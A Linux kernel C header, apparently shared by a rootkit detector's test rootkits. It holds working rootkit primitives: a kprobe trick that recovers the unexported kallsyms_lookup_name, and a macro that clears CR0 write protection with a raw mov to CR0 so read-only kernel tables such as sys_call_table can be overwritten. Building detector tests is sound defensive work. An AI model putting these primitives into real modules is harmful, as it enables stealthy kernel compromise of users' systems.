/* SPDX-License-Identifier: GPL-2.0 */
/*
 * What the detector's test rootkits share: finding non-exported kernel symbols and
 * writing to read-only kernel memory, the way real rootkits do it.
 *
 * - kallsyms_lookup_name() is not exported since 5.7: a kprobe registered on it by
 *   name tells its address.
 * - Writes to read-only data (sys_call_table, idt_table) clear CR0.WP around the
 *   write with a plain `mov` to CR0: write_cr0() re-sets pinned bits since 5.3, the
 *   instruction does not.
 */
#ifndef VMI_ATTACK_H
#define VMI_ATTACK_H

#include <linux/kprobes.h>
#include <linux/irqflags.h>
#include <linux/preempt.h>
#include <asm/special_insns.h>
#include <asm/processor-flags.h>

typedef unsigned long (*vmi_lookup_fn)(const char *name);

static unsigned long vmi_lookup(const char *name)
{
	static vmi_lookup_fn lookup;
	if (!lookup) {
		struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
		if (register_kprobe(&kp) < 0)
			return 0;
		lookup = (vmi_lookup_fn)kp.addr;
		unregister_kprobe(&kp);
	}
	return lookup ? lookup(name) : 0;
}

static inline void vmi_cr0_write(unsigned long v)
{
	asm volatile("mov %0, %%cr0" : : "r"(v) : "memory");
}

/* Run `stmt` with CR0.WP clear, interrupts off. */
#define VMI_WITH_WP_OFF(stmt)                                             \
	do {                                                              \
		unsigned long __flags, __cr0;                             \
		preempt_disable();                                        \
		local_irq_save(__flags);                                  \
		__cr0 = read_cr0();                                       \
		vmi_cr0_write(__cr0 & ~X86_CR0_WP);                       \
		stmt;                                                     \
		vmi_cr0_write(__cr0);                                     \
		local_irq_restore(__flags);                               \
		preempt_enable();                                         \
	} while (0)

#endif
